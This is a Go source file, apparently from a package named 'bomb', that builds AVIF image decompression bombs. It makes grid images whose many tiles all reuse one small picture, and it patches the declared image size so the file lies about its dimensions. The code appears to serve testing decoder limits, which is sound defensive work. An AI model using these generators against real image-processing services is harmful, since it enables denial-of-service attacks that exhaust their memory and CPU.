package bomb

import (
	"bytes"
	"encoding/binary"
)

// Grid is an AVIF of rows × columns tiles, which are all the one picture that
// tile, an AVIF of width × height px, holds: each costs the decoder anew and the
// file six bytes. claimed is the size that the image says it has.
//
// The boxes are those of ISO/IEC 14496-12 and 23008-12, section 6.6.2.3.
func Grid(tile []byte, width, height, columns, rows, claimedWidth, claimedHeight int) []byte {
	picture, config := find(tile, "mdat"), find(tile, "av1C")
	tiles := columns * rows
	const grid = 1
	items := fullBox("infe", 2, be(nil, uint16(grid), uint16(0), "grid", byte(0)))
	derived := be(nil, uint16(grid), uint16(tiles))
	properties := be(nil, uint16(grid), byte(1), byte(1))
	for i := range tiles {
		id := uint16(grid + 1 + i)
		items = append(items, fullBox("infe", 2, be(nil, id, uint16(0), "av01", byte(0)))...)
		derived = be(derived, id)
		properties = be(properties, id, byte(2), byte(2), byte(3))
	}
	description := be(nil, "\x00\x01", byte(rows-1), byte(columns-1), uint32(claimedWidth), uint32(claimedHeight))

	head := box("ftyp", be(nil, "avif", uint32(0), "avifmif1miaf"))
	meta := func(pictureAt uint32) []byte {
		places := be(nil, "\x44\x00", uint16(1+tiles))
		places = be(places, uint16(grid), uint16(1), uint16(0), uint16(1), uint32(0), uint32(len(description)))
		for i := range tiles {
			places = be(places, uint16(grid+1+i), uint16(0), uint16(0), uint16(1), pictureAt, uint32(len(picture)))
		}
		return fullBox("meta", 0, bytes.Join([][]byte{
			fullBox("hdlr", 0, be(nil, uint32(0), "pict", make([]byte, 13))),
			fullBox("pitm", 0, be(nil, uint16(grid))),
			fullBox("iloc", 1, places),
			fullBox("iinf", 0, be(nil, uint16(1+tiles), items)),
			fullBox("iref", 0, box("dimg", derived)),
			box("iprp", be(nil,
				box("ipco", be(nil, extent(claimedWidth, claimedHeight), box("av1C", config), extent(width, height))),
				fullBox("ipma", 0, be(nil, uint32(1+tiles), properties)))),
			box("idat", description),
		}, nil))
	}
	const boxHead = 8
	pictureAt := uint32(len(head) + len(meta(0)) + boxHead)
	return be(nil, head, meta(pictureAt), box("mdat", picture))
}

// Claim changes the size that an AVIF says it has, and nothing else.
func Claim(avif []byte, width, height int) []byte {
	lie := bytes.Clone(avif)
	at := bytes.Index(lie, []byte("ispe")) + 8
	binary.BigEndian.PutUint32(lie[at:], uint32(width))
	binary.BigEndian.PutUint32(lie[at+4:], uint32(height))
	return lie
}

func extent(w, h int) []byte { return fullBox("ispe", 0, be(nil, uint32(w), uint32(h))) }

func box(name string, data []byte) []byte { return be(nil, uint32(8+len(data)), name, data) }

func fullBox(name string, version byte, data []byte) []byte {
	return box(name, be(nil, version, "\x00\x00\x00", data))
}

// find returns what is in the first box of a name, wherever it lies.
func find(file []byte, name string) []byte {
	at := bytes.Index(file, []byte(name))
	length := binary.BigEndian.Uint32(file[at-4:])
	return file[at+4 : at-4+int(length)]
}
